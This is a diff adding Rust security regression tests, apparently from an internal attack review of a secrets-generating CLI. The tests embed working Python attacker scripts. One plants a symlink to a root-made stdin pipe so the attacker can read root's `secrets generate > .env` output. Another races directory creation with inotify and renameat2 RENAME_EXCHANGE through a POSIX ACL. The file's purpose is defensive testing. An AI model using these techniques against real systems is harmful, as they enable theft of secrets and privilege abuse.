@@ -1,0 +1,330 @@
+//! FOURTH ATTACK ROUND (review of the issue-25 fixes): attacks that still
+//! win against the merged `main`. Every test here FAILS on the code it was
+//! written against; each says what the attacker does, what root runs, and
+//! what must not happen. The attacker is `secrets-attacker`, played with
+//! setpriv (tests/support/attacker.rs).
+//!
+//! Run: `cargo test -p secrets-tests --test hostile_round4`.
+//! `SECRETS_BIN=/path/to/secrets` runs these against another build.
+
+use std::fs;
+use std::os::unix::fs::MetadataExt;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+use std::time::Duration;
+
+use secrets_tests::attacker::{
+    self, code, file, mkdir, public_tempdir, python, require_attacker, run_watched, secrets,
+    secrets_bin, snapshot, stderr, Running, Snapshot,
+};
+use secrets_tests::dir_entries;
+
+/// A bound on a hang, not a speed target.
+const WATCHDOG: Duration = Duration::from_secs(60);
+
+/// `sh -c 'secrets ARGS > .env'` run by root in `dir`: the shell opens (and
+/// follows) `.env` before `secrets` runs.
+fn to_dot_env(dir: &Path, args: &[&str]) -> Output {
+    let mut c = Command::new("sh");
+    c.arg("-c")
+        .arg("exec \"$0\" \"$@\" > .env")
+        .arg(secrets_bin())
+        .args(args)
+        .current_dir(dir)
+        .env("NO_COLOR", "1");
+    let run = run_watched(c, WATCHDOG);
+    assert!(run.finished, "root's command hung: {}", stderr(&run.output));
+    run.output
+}
+
+/// A project directory of root's that the attacker's group may write to
+/// (0775 root:secrets-attacker), as in hostile_stdout.rs.
+fn shared_project(base: &Path) -> PathBuf {
+    let dir = base.join("app");
+    mkdir(&dir, 0o775, false);
+    std::os::unix::fs::chown(&dir, None, Some(attacker::ids().1)).unwrap();
+    dir
+}
+
+// ---------------------------------------------------------------------------
+// R4-1 (high): a pipe MADE BY ROOT whose read end the attacker holds.
+//
+// secret_stdout trusts any anonymous pipe whose inode belongs to root, the
+// caller or the login user. But who made a pipe says nothing about who reads
+// it: every process root starts for another user with a pipe on its stdin
+// holds the read end of a root-made pipe (cron makes the stdin and stdout
+// pipes of each user's job as root before it drops to the user; so do
+// `cmd | runuser -u svc -- consumer`, `sudo -u svc`, supervisors, ...). The
+// attacker plants `.env -> /proc/<its pid>/fd/0`; root's shell opens that
+// link for writing (root may), which is a new write end of the SAME pipe:
+// `fstat` says pipefs, uid 0 -> trusted, and the attacker reads every value
+// from its stdin. (The attacker cannot reopen the pipe itself: it is root's
+// 0600 inode; it does not need to, it already holds a read end.)
+//
+// Played here exactly so: the test (root) spawns the attacker with a pipe of
+// its own making on the attacker's stdin, as cron would.
+// ---------------------------------------------------------------------------
+
+/// Plants `argv[1] -> /proc/self/fd/0` (its stdin: a pipe root made), then
+/// reads its stdin until the line `stop`, and prints how many bytes came in
+/// other than that line.
+const STDIN_PIPE_READER: &str = r#"
+import os, signal, sys
+signal.alarm(120)
+os.symlink("/proc/%d/fd/0" % os.getpid(), sys.argv[1])
+print("planted", flush=True)
+data = b""
+while not data.endswith(b"stop\n"):
+    b = os.read(0, 65536)
+    if not b:
+        break
+    data += b
+stolen = data[: -len(b"stop\n")] if data.endswith(b"stop\n") else data
+sys.stderr.write("stolen: %r\n" % stolen[:200])
+print(len(stolen), flush=True)
+"#;
+
+#[test]
+fn r4_1_a_root_made_pipe_whose_reader_is_the_attacker_gets_nothing() {
+    if !require_attacker() {
+        return;
+    }
+    let base = public_tempdir();
+    let dir = shared_project(base.path());
+    // Running::spawn gives the attacker a pipe made by this (root) process
+    // on its stdin: the cron case.
+    let mut attack = Running::spawn(python(STDIN_PIPE_READER, &[&dir.join(".env")]));
+    attack.expect("planted");
+    let o = to_dot_env(&dir, &["generate", "--with", "postgres"]);
+    attack.say("stop");
+    let read = attack.finish();
+    assert_eq!(
+        read,
+        "0",
+        "the attacker read {read} bytes of root's `secrets generate > .env` from its own stdin (exit {:?}, stderr {})",
+        code(&o),
+        stderr(&o)
+    );
+    assert_eq!(code(&o), Ok(2), "{}", stderr(&o));
+}
+
+// ---------------------------------------------------------------------------
+// R4-2 (medium): the creation rule ignores POSIX ACLs.
+//
+// `creator_in` lets root create (as root) in a parent that is group-writable
+// when the group is root's (mode 0775, group 0). With an ACL entry
+// `user:secrets-attacker:rwx` on a root:root directory, `ls` shows exactly
+// that (drwxrwxr-x+ root root: the group bits are the ACL mask), yet the
+// attacker may rename entries in it. So the RENAME_EXCHANGE of issue 25 row 5
+// works again: root's `man --dir BASE/app` mkdirs `app` as root, the attacker
+// swaps in root's 0700 `decoy`, root's fstat sees a directory of root's (the
+// creator) and fchmods it to 0755 and writes the pages into it. Shared
+// directories with an ACL for a deploy user are common (`setfacl -m
+// u:deploy:rwx /srv/site`).
+// ---------------------------------------------------------------------------
+
+/// How many times the race repeats the command.
+const ATTEMPTS: usize = 200;
+
+/// The racer of hostile_race.rs: woken by inotify when root creates `app`
+/// in `BASE`, it exchanges `app` and `decoy` (`renameat2(RENAME_EXCHANGE)`).
+const EXCHANGE_RACER: &str = r#"
+import ctypes, os, select, sys
+libc = ctypes.CDLL(None, use_errno=True)
+renameat2 = libc.renameat2
+renameat2.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_int, ctypes.c_char_p, ctypes.c_uint]
+AT_FDCWD, RENAME_EXCHANGE, IN_CREATE, IN_NONBLOCK = -100, 2, 0x100, 0o4000
+base = sys.argv[1]
+app = os.path.join(base, "app").encode()
+decoy = os.path.join(base, "decoy").encode()
+ino = libc.inotify_init1(IN_NONBLOCK)
+assert ino >= 0 and libc.inotify_add_watch(ino, base.encode(), IN_CREATE) >= 0
+def drain():
+    try:
+        while os.read(ino, 4096):
+            pass
+    except BlockingIOError:
+        pass
+def line():
+    data = b""
+    while not data.endswith(b"\n"):
+        chunk = os.read(0, 64)
+        if not chunk:
+            return None
+        data += chunk
+    return data.strip()
+total = 0
+print("ready", flush=True)
+while line() == b"go":
+    drain()
+    print("going", flush=True)
+    swaps = 0
+    while True:
+        ready = select.select([ino, 0], [], [])[0]
+        if ino in ready:
+            if renameat2(AT_FDCWD, app, AT_FDCWD, decoy, RENAME_EXCHANGE) == 0:
+                swaps += 1
+            drain()
+        if 0 in ready:
+            break
+    if line() != b"sync":
+        break
+    total += swaps
+    print("ok %d" % swaps, flush=True)
+print(total, flush=True)
+"#;
+
+/// Sets the access ACL of `path` to `user::rwx user:UID:rwx group::r-x
+/// mask::rwx other::r-x` (what `setfacl -m u:UID:rwx` makes of a 0755
+/// directory), written as the raw `system.posix_acl_access` xattr so that
+/// no `acl` package is needed.
+fn grant_acl_write(path: &Path, uid: u32) {
+    const SET_ACL: &str = r#"
+import os, struct, sys
+uid = int(sys.argv[2])
+U = 0xFFFFFFFF
+entries = [(0x01, 7, U), (0x02, 7, uid), (0x04, 5, U), (0x10, 7, U), (0x20, 5, U)]
+blob = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *e) for e in entries)
+os.setxattr(sys.argv[1], "system.posix_acl_access", blob)
+"#;
+    let o = Command::new(attacker::PYTHON)
+        .arg("-c")
+        .arg(SET_ACL)
+        .arg(path)
+        .arg(uid.to_string())
+        .output()
+        .unwrap();
+    assert!(o.status.success(), "set the ACL: {}", stderr(&o));
+}
+
+/// Root's 0700 directory `BASE/decoy` and what must stay as it is.
+struct Decoy {
+    base: PathBuf,
+    ino: u64,
+    before: (u32, u32, u32),
+    precious: Snapshot,
+}
+
+impl Decoy {
+    fn make(base: &Path) -> Decoy {
+        let dir = base.join("decoy");
+        mkdir(&dir, 0o700, false);
+        file(&dir.join("precious"), b"root's\n", 0o600, false);
+        let m = fs::metadata(&dir).unwrap();
+        Decoy {
+            base: base.to_owned(),
+            ino: m.ino(),
+            before: (m.uid(), m.gid(), m.mode() & 0o7777),
+            precious: snapshot(&dir.join("precious")),
+        }
+    }
+
+    fn find(&self) -> PathBuf {
+        ["decoy", "app"]
+            .iter()
+            .map(|n| self.base.join(n))
+            .find(|p| fs::symlink_metadata(p).is_ok_and(|m| m.ino() == self.ino))
+            .expect("root's directory is still in BASE")
+    }
+
+    fn untouched(&self) -> bool {
+        let at = self.find();
+        let m = fs::symlink_metadata(&at).unwrap();
+        (m.uid(), m.gid(), m.mode() & 0o7777) == self.before
+            && dir_entries(&at) == ["precious"]
+            && attacker::unchanged(&at.join("precious"), &self.precious)
+    }
+
+    fn clear(&self) {
+        for name in ["app", "decoy"] {
+            let p = self.base.join(name);
+            if fs::symlink_metadata(&p).is_ok() {
+                fs::remove_dir_all(&p).unwrap();
+            }
+        }
+    }
+}
+
+#[test]
+fn r4_2_man_dir_in_a_root_directory_the_attacker_may_write_through_an_acl() {
+    if !require_attacker() {
+        return;
+    }
+    let top = public_tempdir();
+    let base = top.path().join("site");
+    mkdir(&base, 0o755, false);
+    grant_acl_write(&base, attacker::uid());
+    // The ACL is real: the attacker can create and rename in BASE.
+    let probe = attacker::command("touch")
+        .arg(base.join("probe"))
+        .output()
+        .unwrap();
+    assert!(probe.status.success(), "{}", stderr(&probe));
+    fs::remove_file(base.join("probe")).unwrap();
+
+    let mut decoy = Decoy::make(&base);
+    let mut racer = Running::spawn(python(EXCHANGE_RACER, &[&base]));
+    racer.expect("ready");
+    let (mut wins, mut exchanges, mut ok) = (0, 0, 0);
+    for _ in 0..ATTEMPTS {
+        racer.say("go");
+        racer.expect("going");
+        let o = Command::new("nice")
+            .args(["-n", "19"])
+            .arg(secrets_bin())
+            .args(["man", "--dir", "site/app"])
+            .current_dir(top.path())
+            .env("NO_COLOR", "1")
+            .output()
+            .unwrap();
+        if code(&o) == Ok(0) {
+            ok += 1;
+        }
+        racer.say("sync");
+        let reply = racer.line();
+        exchanges += reply
+            .strip_prefix("ok ")
+            .and_then(|n| n.parse::<usize>().ok())
+            .expect("the racer answers `ok N`");
+        if !decoy.untouched() {
+            wins += 1;
+        }
+        decoy.clear();
+        decoy = Decoy::make(&base);
+    }
+    racer.say("stop");
+    racer.finish();
+    eprintln!("man --dir through an ACL: {ATTEMPTS} attempts, {exchanges} exchanges, {ok} exit 0, {wins} wins");
+    assert_eq!(
+        wins, 0,
+        "root's 0700 directory was chmodded and filled with pages in {wins} of {ATTEMPTS} attempts ({exchanges} exchanges, {ok} exit 0)"
+    );
+}
+
+// Without any race: root creates a directory, as root, in a directory the
+// attacker can write through an ACL; the rule says it must refuse (a group
+// or others "could swap the new directory"), as it does for mode 0775 with
+// the attacker's group.
+#[test]
+fn r4_2b_no_directory_is_made_as_root_where_an_acl_lets_another_user_rename_it() {
+    if !require_attacker() {
+        return;
+    }
+    let top = public_tempdir();
+    let base = top.path().join("site");
+    mkdir(&base, 0o755, false);
+    grant_acl_write(&base, attacker::uid());
+    let o = secrets(top.path())
+        .args(["man", "--dir", "site/pages"])
+        .output()
+        .unwrap();
+    let made = base.join("pages");
+    let owner = fs::metadata(&made).ok().map(|m| m.uid());
+    assert!(
+        code(&o) == Ok(2) && owner.is_none(),
+        "root made {} (owner {owner:?}) in a directory the attacker may rename entries of (exit {:?}: {})",
+        made.display(),
+        code(&o),
+        stderr(&o)
+    );
+}
